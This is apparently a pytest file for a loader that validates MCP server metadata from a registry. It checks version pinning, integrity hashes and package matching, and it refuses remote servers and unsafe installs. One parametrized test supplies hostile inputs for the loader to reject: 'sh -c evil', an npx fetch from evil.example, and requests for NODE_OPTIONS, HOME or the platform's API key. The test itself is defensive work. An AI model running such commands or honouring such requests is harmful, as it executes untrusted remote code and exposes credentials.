"""What registries say of servers: only packages that are promised, and keys that are keys."""

import dataclasses
from typing import Any

import pytest

from pml.fqdn import Fqdn
from pml.loader.errors import MetadataInvalidError, RegistryRoutingError, RemoteServerError
from pml.loader.metadata import Dependency, Install, McpType, Metadata
from pml.loader.served import served_by
from pml.routing import Routing

HASH = f"sha256-{'c5d6' * 16}"
NAME = Fqdn.parse("pml.mcp.serena.server.c5d6")


def metadata(command: str = "npx serena@1.2.3 --quiet", **facts: Any) -> Metadata:
    program, *args = command.split()
    own = {name: facts.pop(name) for name in ("version", "env_required") if name in facts}
    made = Metadata(
        NAME, McpType.STDIO, Routing.CLIENT, HASH, install=Install(program, tuple(args))
    )
    install = dataclasses.replace(made.install or Install(""), **own)
    return dataclasses.replace(made, install=install, **facts)


def test_a_package_is_taken_with_its_version_arguments_and_keys() -> None:
    (served,) = served_by(metadata(env_required=("SERENA_KEY",)))
    assert (served.name, served.integrity) == ("serena", HASH)
    assert str(served.wanted.exact) == "serena@1.2.3"
    assert (served.wanted.args, served.variables) == (("--quiet",), ("SERENA_KEY",))


def test_a_version_that_is_told_or_locked_pins_a_range() -> None:
    (told,) = served_by(metadata("npx serena", version="1.2.3"))
    assert str(told.wanted.exact) == "serena@1.2.3"
    (ranged,) = served_by(metadata("uvx serena>=1"))
    assert ranged.wanted.exact is None
    assert str(ranged.pinned("pypi:serena@1.4").wanted.exact) == "serena@1.4"


@pytest.mark.parametrize(
    "package", ["npm:other@1.2.3", "pypi:serena@1.2.3", "npm:serena@2.0.0", "npm:serena@^1"]
)
def test_another_package_than_the_locked_one_is_refused(package: str) -> None:
    (served,) = served_by(metadata())
    with pytest.raises(MetadataInvalidError):
        served.pinned(package)


@pytest.mark.parametrize(
    ("command", "facts"),
    [
        ("docker run serena", {}),
        ("sh -c evil", {}),
        ("npx https://evil.example/x.tgz", {}),
        ("npx -c evil", {}),
        ("npx serena@1.2.3", {"version": "1.2.4"}),
        ("npx serena", {"version": "latest"}),
        ("npx serena", {"env_required": ("NODE_OPTIONS",)}),
        ("npx serena", {"env_required": ("HOME",)}),
        ("npx serena", {"env_required": ("PML_API_KEY",)}),
    ],
)
def test_what_a_server_must_not_be_is_refused(command: str, facts: dict[str, Any]) -> None:
    with pytest.raises(MetadataInvalidError):
        served_by(metadata(command, **facts))


def test_two_promises_for_one_package_are_refused() -> None:
    found = metadata()
    other = dataclasses.replace(found.install or Install(""), integrity=f"sha256-{'00' * 32}")
    with pytest.raises(MetadataInvalidError):
        served_by(dataclasses.replace(found, install=other))


def test_a_remote_server_is_the_users_to_configure() -> None:
    found = metadata(type=McpType.HTTP, proxy_to="https://api.example")
    with pytest.raises(RemoteServerError, match=r"api\.example"):
        served_by(found)
    with pytest.raises(RegistryRoutingError):
        served_by(dataclasses.replace(found, routing=Routing.SERVER))


def test_a_yes_is_for_arguments_and_keys_too() -> None:
    variants = [
        metadata(),
        metadata("npx serena@1.2.3 --loud"),
        metadata(env_required=("SERENA_KEY",)),
        metadata(integrity=f"sha256-{'c5d6' * 15}0000"),
    ]
    assert len({served_by(one)[0].terms for one in variants}) == len(variants)


def test_a_server_that_no_client_could_name_is_refused() -> None:
    needed = Dependency("memory__x", ("npx", "server-memory"), "1.2.3", HASH)
    with pytest.raises(MetadataInvalidError):
        served_by(Metadata(NAME, McpType.DENO, Routing.CLIENT, HASH, mcp_deps=(needed,)))


def test_what_a_capability_needs_is_pinned_by_it() -> None:
    needed = Dependency("memory", ("npx", "server-memory"), "1.2.3", HASH, ("MEMORY_KEY",))
    code = Fqdn.parse("acme.tools.notes.keep.abcd")
    found = Metadata(code, McpType.DENO, Routing.CLIENT, HASH, mcp_deps=(needed,))
    (served,) = served_by(found)
    assert served.is_dependency
    assert (served.name, served.source, served.variables) == ("memory", code, ("MEMORY_KEY",))
    assert str(served.wanted.exact) == "server-memory@1.2.3"
